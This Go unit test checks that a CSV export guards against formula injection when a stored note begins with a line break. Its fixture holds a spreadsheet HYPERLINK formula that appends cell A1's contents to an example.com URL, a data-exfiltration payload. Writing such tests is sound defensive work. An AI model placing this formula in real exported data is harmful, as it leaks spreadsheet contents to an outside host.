package model

import (
	"bytes"
	"strings"
	"testing"
)

// A note may begin with a line break, which the CSV writer writes as CRLF:
// a formula after it is guarded like one at the start.
func TestCSVGuardsANoteStartingWithALineBreak(t *testing.T) {
	s := newTestStore(t)
	p := addPerson(t, s, "Sam Okafor")
	sess := Session{PersonID: p.ID, Kind: KindBesideAgent, Channel: ChannelPhone, Date: DateOf(fixedNow), Minutes: 30,
		Ideas: "\n=HYPERLINK(\"http://example.com/?\"&A1,\"details\")"}
	if err := s.SaveSession(&sess, nil); err != nil {
		t.Fatalf("the note was refused: %v", err)
	}
	var out bytes.Buffer
	if err := s.ExportShadowing(&out, ShadowingExport{Format: FormatCSV}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "\"\r\n=HYPERLINK") {
		t.Errorf("a cell begins with a carriage return and a formula, unguarded:\n%q", out.String())
	}
}
